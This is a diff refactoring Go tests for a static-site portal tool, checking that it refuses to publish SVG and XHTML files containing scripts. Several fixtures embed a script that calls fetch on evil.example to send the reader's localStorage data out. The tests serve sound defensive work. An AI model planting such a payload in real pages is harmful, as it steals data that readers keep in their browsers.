@@ -122,10 +122,7 @@ func TestStaticFileThatIsNotItsImage(t *testing.T) {
 func TestSVGThatRunsScriptIsAnError(t *testing.T) {
 	t.Parallel()
 	const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`
-	cases := []struct {
-		file, data string
-		fi, en     string // "": no error
-	}{
+	cases := []staticFile{
 		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n" + svg + "\n  <rect width=\"10\" height=\"10\"/>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script>\n</svg>\n",
 			"content/static/kuvat/kaavio.svg:4:3: SVG-kuvassa on <script>, jonka selain suorittaa, kun kuva avataan omaan välilehteensä: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten kuvaa ei julkaista: poista se kuvasta tekstieditorissa tai tallenna kuva PNG-muodossa",
 			"content/static/kuvat/kaavio.svg:4:3: the SVG image holds <script>, which a browser runs when the image is opened in a tab of its own: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the image is not published: remove it from the image in a text editor, or save the image as PNG"},
@@ -147,35 +144,7 @@ func TestSVGThatRunsScriptIsAnError(t *testing.T) {
 			"content/static/kuvat/entiteetti.svg:2:28: the SVG image holds <script>,"},
 		{"kuvat/piirros.svg", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Created with Inkscape -->\n" + svg + "<title>Ohje: älä kirjoita &lt;script&gt; sivulle</title><a href=\"https://thl.fi/\"><text>Lähde: thl.fi</text></a><image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>\n", "", ""},
 	}
-	dir := portal(t)
-	for _, c := range cases {
-		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
-	}
-	for _, lang := range []string{"fi", "en"} {
-		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
-		if code != 1 {
-			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
-		}
-		for _, c := range cases {
-			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
-			if want == "" {
-				if strings.Contains(out, "content/static/"+c.file+":") {
-					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
-				}
-				continue
-			}
-			if lines(out, want) != 1 {
-				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
-			}
-		}
-	}
-	code, out, errOut := helminauha(t, dir, "build")
-	if code != 1 {
-		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
-	}
-	if _, err := os.Stat(filepath.Join(dir, "public", "kuvat", "kaavio.svg")); !os.IsNotExist(err) {
-		t.Errorf("build published kuvat/kaavio.svg (%v)", err)
-	}
+	scriptsRefused(t, cases, "kuvat/kaavio.svg")
 }
 
 // TestStaticDocumentsThatRunScripts: an XHTML page, an XML file, an HTML
@@ -205,10 +174,7 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 	}
 	w.Close()
 	const xhtml = "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n"
-	cases := []struct {
-		file, data string
-		fi, en     string // "": no error
-	}{
+	cases := []staticFile{
 		{"liitteet/raportti.xhtml", xhtml + "<p>Teksti</p>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></body></html>\n",
 			"content/static/liitteet/raportti.xhtml:4:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten tiedostoa ei julkaista: poista se tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
 			"content/static/liitteet/raportti.xhtml:4:3: the file holds <script>, which a browser runs when the file is opened: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the file is not published: remove it from the file in a text editor, or publish the content as a page (Markdown) or a PDF file"},
@@ -243,35 +209,7 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 		{"liitteet/ohje.html", "<p>Osoite https://thl.fi/ &amp; <a href=\"https://thl.fi/?a=1&amp;b=2\" title=\"&quot;THL&quot;\">THL</a></p>\n", "", ""},
 		{"liitteet/ohje.xhtml", xhtml + "<p>Älä lisää &lt;script&gt;-elementtiä.</p><a href=\"https://thl.fi/\">THL</a></body></html>\n", "", ""},
 	}
-	dir := portal(t)
-	for _, c := range cases {
-		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
-	}
-	for _, lang := range []string{"fi", "en"} {
-		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
-		if code != 1 {
-			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
-		}
-		for _, c := range cases {
-			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
-			if want == "" {
-				if strings.Contains(out, "content/static/"+c.file+":") {
-					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
-				}
-				continue
-			}
-			if lines(out, want) != 1 {
-				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
-			}
-		}
-	}
-	code, out, errOut := helminauha(t, dir, "build")
-	if code != 1 {
-		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
-	}
-	if _, err := os.Stat(filepath.Join(dir, "public", "liitteet", "raportti.xhtml")); !os.IsNotExist(err) {
-		t.Errorf("build published liitteet/raportti.xhtml (%v)", err)
-	}
+	scriptsRefused(t, cases, "liitteet/raportti.xhtml")
 }
 
 // TestImageAtThePortalsOwnAddress: an image written with the portal's
@@ -326,5 +264,46 @@ func TestImageAtThePortalsOwnAddress(t *testing.T) {
 		if n := lines(out, "content/sivut/kuvat.md:"); n != 2 {
 			t.Errorf("check --lang %s: %d problems in kuvat.md, want 2:\n%s", lang, n, out)
 		}
+	}
+}
+
+// staticFile is a file under static/ and the start of what check says of
+// it in Finnish and in English ("": nothing).
+type staticFile struct{ file, data, fi, en string }
+
+// scriptsRefused writes files under the small portal's static/ and holds
+// check, in Finnish and in English, to saying each one's error once and
+// nothing of those that run no script, and build to failing without
+// publishing refused (a path under public/).
+func scriptsRefused(t *testing.T, files []staticFile, refused string) {
+	t.Helper()
+	dir := portal(t)
+	for _, c := range files {
+		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
+	}
+	for _, lang := range []string{"fi", "en"} {
+		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
+		if code != 1 {
+			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
+		}
+		for _, c := range files {
+			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
+			if want == "" {
+				if strings.Contains(out, "content/static/"+c.file+":") {
+					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
+				}
+				continue
+			}
+			if lines(out, want) != 1 {
+				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
+			}
+		}
+	}
+	code, out, errOut := helminauha(t, dir, "build")
+	if code != 1 {
+		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "public", filepath.FromSlash(refused))); !os.IsNotExist(err) {
+		t.Errorf("build published %s (%v)", refused, err)
 	}
 }
